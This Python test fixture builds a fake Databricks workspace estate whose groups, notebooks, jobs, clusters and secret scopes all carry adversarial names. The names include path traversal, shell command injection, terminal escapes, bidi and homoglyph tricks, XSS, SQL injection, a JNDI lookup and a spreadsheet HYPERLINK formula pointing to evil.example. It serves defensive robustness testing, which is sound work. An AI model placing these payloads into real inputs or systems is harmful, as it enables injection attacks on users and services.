"""Names that somebody chose to do harm, or that harm by themselves; and an estate in which everything is called so."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any, Final

MARK: Final = "evil"  # in every name that has room for it, so that a file that came of one is known by it
ESC: Final = "\x1b"
# Each by what it tries. A name in a folder has no slash; with them, those below are names of what has no path.
NAMES: Final = (
    *("..evil", "...", "..%2f..%2fevil", "..\\..\\evil", "%2e%2e%2fevil"),
    *("C:evil", "C:\\evil", "\\\\host\\share\\evil", "~", "~root", "~evil"),
    *("CON", "AUX", "NUL.txt", "COM1", "LPT1.evil", "evil.", "evil ", " evil", "evil:stream", "evil\u00a0"),
    *(
        "evil\nname",
        "evil\rname",
        "evil\tname",
        f"evil{ESC}[2J{ESC}[1;1H",
        f"evil{ESC}]0;title\x07",
        "evil\x07\x08\x7f",
    ),
    *("evil\x9b31m", "evil\u202egnp.exe", "evil\u2066x\u2069", "evil\u200bname", "\ufeffevil", "evil\u2028line"),
    *("e\u0301vil", "\u00e9vil", "\u1e69\u0323evil", "evil\U0001f6a2", "\U000e0065evil", "ev\u0456l"),
    *("$(touch evil)", "`touch evil`", "evil; touch evil", "evil|touch evil", "${evil}", "evil && touch evil"),
    *("%s%n%d evil", "{0}{evil}", "{{7*7}}evil", "{% raw %}evil", "#{7*7}evil", "${jndi:ldap://evil.example/a}"),
    *("<script>evil()</script>", '"><img src=x onerror=evil()>', "</script><b>evil", "<!-- evil", "&lt;evil&gt;"),
    *('=HYPERLINK("http://evil.example")', "+evil", "-evil", "@evil", "--help evil", "'; DROP TABLE item; -- evil"),
    *("evil" * 63 + "end", "null", "true", "-1", "*evil?[a-z]", "evil.ipynb", ".evil", "evil.lock", "ledger.db"),
)
SLASHED: Final = ("../../evil", "/etc/evil", "/var/evil/../evil", "a/../../../evil", "//host/share/evil", "evil/")
_HEADER: Final = b"# Databricks notebook source\n"
ORG, EVA = 7405600000006666, "eva@evil.example"


def build(folder: Path) -> Path:
    """An estate in `folder`: notebooks, folders and files, scopes and keys, groups, jobs, clusters with tags, pools."""
    rows: list[dict[str, Any]] = []

    def put(path: str, body: Any) -> None:
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(json.dumps(body), "utf-8")

    def node(path: str, type: str, data: bytes | None = None, **more: Any) -> None:
        number = 6000000000000 + len(rows)
        row = {"path": path, "object_type": type, "object_id": number, **more}
        if data is not None:
            file = folder / "workspace" / str(number)
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(data)
            row |= {"file": f"workspace/{number}", "size": len(data), "modified_at": 1700000000000}
        rows.append(row)

    url = f"https://adb-{ORG}.6.azuredatabricks.net"
    put("estate.json", {"name": "evil", "region": "northeurope", "workspace_url": url, "workspace_id": ORG})
    users = [{"id": "1000000000", "userName": EVA, "displayName": "<b>evil</b>", "active": True}]
    names = [*NAMES, *SLASHED]
    groups: list[dict[str, Any]] = [
        {"id": str(3000000000 + at), "displayName": name, "members": [{"value": "1000000000"}],
         "meta": {"resourceType": "WorkspaceGroup"}}
        for at, name in enumerate(("admins", "users", *names))
    ]  # fmt: skip
    put("identities.json", {"users": users, "service_principals": [], "groups": groups})
    for path in ("/Users", "/Shared", "/Repos", f"/Users/{EVA}"):
        node(path, "DIRECTORY")
    for at, name in enumerate(NAMES):
        node(f"/Shared/{name}", "DIRECTORY")
        node(f"/Shared/{name}/n{at}", "NOTEBOOK", _HEADER + b"1", language="PYTHON", format="SOURCE")
        node(f"/Users/{EVA}/{name}", "NOTEBOOK", _HEADER + name.encode(), language="PYTHON", format="SOURCE")
        node(f"/Shared/{name}/f {name}", "FILE", name.encode())
    for at, name in enumerate(names):
        told = {"spark_version": "15.4.x-scala2.12", "node_type_id": "Standard_DS3_v2", "num_workers": 1}
        told |= {"state": "TERMINATED", "cluster_source": "UI", "creator_user_name": EVA, "custom_tags": {name: name}}
        id = f"0606-0606{at:02}-evilclus"
        if at % 3 == 0:
            put(f"clusters/{id}.json", {"cluster_id": id, "cluster_name": name, **told})
        job = {"job_id": 660000000000000 + at, "creator_user_name": EVA, "run_as_user_name": EVA, "created_time": 1}
        put(f"jobs/{job['job_id']}.json", {**job, "settings": {"name": name, "tags": {name[:127]: "x"}}})
    for at, name in enumerate(names):
        if "/" not in name and len(name) <= 128:
            value = base64.b64encode(f"canary-of-{at}".encode()).decode()
            given = {"scope": {"name": name, "backend_type": "DATABRICKS"}, "acls": []}
            put(
                f"secrets/s{at}.json",
                {**given, "secrets": [{"key": name, "value": value, "last_updated_timestamp": 1}]},
            )
    (folder / "manifest.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    return folder
